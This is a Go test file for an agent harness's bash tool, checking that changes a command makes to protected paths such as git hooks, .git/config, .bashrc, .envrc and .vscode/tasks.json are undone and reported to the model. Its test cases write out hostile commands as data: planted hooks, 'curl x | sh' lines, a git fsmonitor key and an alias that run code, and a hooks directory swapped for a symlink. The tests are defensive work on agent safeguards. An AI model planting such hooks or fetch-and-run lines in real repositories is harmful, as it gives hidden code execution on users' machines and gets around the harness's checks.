//go:build linux

package bash_test

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/reinhq/rein/sandbox"
	"github.com/reinhq/rein/tool/bash"
)

// repo makes a work dir with a git repository, a hook, an rc file and
// ordinary files, and returns it.
func repo(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for p, body := range map[string]string{
		".git/config":            "[core]\n\tbare = false\n",
		".git/HEAD":              "ref: refs/heads/main\n",
		".git/hooks/pre-push":    "#!/bin/sh\nexit 0\n",
		".bashrc":                "# rc\n",
		"README.md":              "# readme\n",
		"src/main.go":            "package main\n",
		"vendor/.keep":           "",
		"attack/.git/config.txt": "",
	} {
		full := filepath.Join(dir, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func runIn(t *testing.T, dir, quarantine, cmd string) string {
	t.Helper()
	tl := bash.RunBash(&sandbox.Local{}, dir, bash.Options{Env: []string{"PATH=/usr/bin:/bin"}, Quarantine: quarantine})
	args, _ := json.Marshal(map[string]string{"command": cmd})
	out, err := tl.Run(t.Context(), args)
	if err != nil {
		t.Fatalf("Run(%q): %v", cmd, err)
	}
	return out
}

func read(t *testing.T, p string) (string, bool) {
	t.Helper()
	b, err := os.ReadFile(p)
	return string(b), err == nil
}

// TestWatchUndoesProtectedWrites: with no kernel sandbox (the local
// executor), what a command does to protected paths that the shell gate
// could not see is undone: a script run by name, an archive's members, a
// file that did not exist, a mode change, a delete.
func TestWatchUndoesProtectedWrites(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name  string
		setup string // run first, outside the watch (as the user would)
		cmd   string
		check func(t *testing.T, dir string)
	}{
		{"script by name plants a hook", "printf '#!/bin/sh\\nmkdir -p .git/hooks; printf \"#!/bin/sh\\\\ntouch /tmp/pwned\\\\n\" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit\\n' > build.sh",
			"sh ./build.sh", func(t *testing.T, dir string) {
				if _, ok := read(t, filepath.Join(dir, ".git/hooks/pre-commit")); ok {
					t.Error(".git/hooks/pre-commit is still there")
				}
			}},
		{"new .envrc", "", "printf 'curl x | sh\\n' > .envrc", func(t *testing.T, dir string) {
			if _, ok := read(t, filepath.Join(dir, ".envrc")); ok {
				t.Error(".envrc is still there")
			}
		}},
		{"tar members", "mkdir -p /tmp/x$$ && cd /tmp/x$$ && mkdir -p .vscode .git && echo '{\"tasks\":1}' > .vscode/tasks.json && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config && tar cf " + "ARCHIVE .vscode .git && cd / && rm -rf /tmp/x$$",
			"tar xf evil.tar", func(t *testing.T, dir string) {
				if _, ok := read(t, filepath.Join(dir, ".vscode/tasks.json")); ok {
					t.Error(".vscode/tasks.json is still there")
				}
				if s, _ := read(t, filepath.Join(dir, ".git/config")); strings.Contains(s, "fsmonitor") {
					t.Errorf(".git/config: %q", s)
				}
			}},
		{"exec bit on a hook", "", "chmod +x .git/hooks/pre-push", func(t *testing.T, dir string) {
			if fi, err := os.Stat(filepath.Join(dir, ".git/hooks/pre-push")); err != nil || fi.Mode().Perm()&0o111 != 0 {
				t.Errorf("pre-push mode %v, %v", fi.Mode(), err)
			}
		}},
		{"delete the config", "", "rm -f .git/config .bashrc", func(t *testing.T, dir string) {
			if s, ok := read(t, filepath.Join(dir, ".git/config")); !ok || !strings.Contains(s, "bare = false") {
				t.Errorf(".git/config: %q %v", s, ok)
			}
			if s, _ := read(t, filepath.Join(dir, ".bashrc")); s != "# rc\n" {
				t.Errorf(".bashrc: %q", s)
			}
		}},
		{"append to rc", "", "echo 'curl x|sh' >> .bashrc", func(t *testing.T, dir string) {
			if s, _ := read(t, filepath.Join(dir, ".bashrc")); s != "# rc\n" {
				t.Errorf(".bashrc: %q", s)
			}
		}},
		{"hooks dir swapped for a link out", "", "mv .git/hooks .git/hooks.old && ln -s /tmp .git/hooks", func(t *testing.T, dir string) {
			fi, err := os.Lstat(filepath.Join(dir, ".git/hooks"))
			if err != nil || !fi.IsDir() {
				t.Fatalf(".git/hooks: %v, %v; want the directory back", fi, err)
			}
			if s, _ := read(t, filepath.Join(dir, ".git/hooks/pre-push")); !strings.Contains(s, "exit 0") {
				t.Errorf("pre-push: %q", s)
			}
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			dir, q := repo(t), t.TempDir()
			if c.setup != "" {
				setup := strings.ReplaceAll(c.setup, "ARCHIVE", filepath.Join(dir, "evil.tar"))
				if out, err := exec.Command("sh", "-c", setup).CombinedOutput(); err != nil {
					t.Fatalf("setup: %v: %s", err, out)
				}
				if out, err := exec.Command("sh", "-c", "cd "+dir+" && "+strings.ReplaceAll(c.setup, "ARCHIVE", filepath.Join(dir, "evil.tar"))).CombinedOutput(); err != nil && !strings.Contains(c.setup, "tar cf") {
					t.Fatalf("setup in work dir: %v: %s", err, out)
				}
			}
			out := runIn(t, dir, q, c.cmd)
			if !strings.Contains(out, "rein undid this command's changes") || !strings.Contains(out, "write_file") {
				t.Errorf("the model was not told:\n%s", out)
			}
			c.check(t, dir)
		})
	}
}

// TestWatchKeepsOrdinaryWork: commits, ordinary edits and a command that
// touches no protected path go through unchanged and without a note.
func TestWatchKeepsOrdinaryWork(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	dir := t.TempDir()
	out := runIn(t, dir, t.TempDir(), "git init -q . && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m one && echo hi > README.md && git add README.md && git -c user.name=a -c user.email=a@b commit -q -m two && git log --oneline | wc -l")
	if strings.Contains(out, "rein undid") || !strings.Contains(out, "2\n") {
		t.Errorf("git init and commits:\n%s", out)
	}
	// git init created .git/config and hooks: a repository the command made
	// is its own work only where protected paths did not exist before.
	out = runIn(t, dir, t.TempDir(), "echo more >> README.md && mkdir -p src && echo x > src/a.go && git -c user.name=a -c user.email=a@b commit -qam three && cat README.md")
	if strings.Contains(out, "rein undid") || !strings.Contains(out, "hi\nmore") {
		t.Errorf("edits and a commit:\n%s", out)
	}
}

// TestWatchNewRepository: a repository the command made is its own work
// while it runs nothing; one planted with a hook or a config key that runs
// code is undone.
func TestWatchNewRepository(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, cmd string
		undone    bool
	}{
		{"git init", "git init -q .", false},
		{"fsmonitor in a new config", "git init -q . && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config", true},
		{"a live hook", "git init -q . && printf '#!/bin/sh\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout", true},
		{"hand-made repository", "mkdir -p .git && printf '[alias]\\n\\tst = !sh -c id\\n' > .git/config", true},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if _, err := exec.LookPath("git"); err != nil {
				t.Skip("no git")
			}
			dir := t.TempDir()
			out := runIn(t, dir, t.TempDir(), c.cmd)
			if got := strings.Contains(out, "rein undid"); got != c.undone {
				t.Errorf("undone %v, want %v:\n%s", got, c.undone, out)
			}
		})
	}
}

// TestWatchUndoStaysInside: a .git swapped for a link to a directory
// outside the work dir is put back as it was, and nothing is written
// through the link.
func TestWatchUndoStaysInside(t *testing.T) {
	t.Parallel()
	dir, outside := repo(t), t.TempDir()
	out := runIn(t, dir, t.TempDir(), "mv .git .git.moved && ln -s "+outside+" .git")
	if !strings.Contains(out, "rein undid") {
		t.Errorf("not undone:\n%s", out)
	}
	if entries, _ := os.ReadDir(outside); len(entries) != 0 {
		t.Errorf("the undo wrote through the link: %v", entries)
	}
	fi, err := os.Lstat(filepath.Join(dir, ".git"))
	if err != nil || !fi.IsDir() {
		t.Fatalf(".git: %v %v; want the directory back", fi, err)
	}
	if s, _ := read(t, filepath.Join(dir, ".git/config")); !strings.Contains(s, "bare = false") {
		t.Errorf(".git/config: %q", s)
	}
}
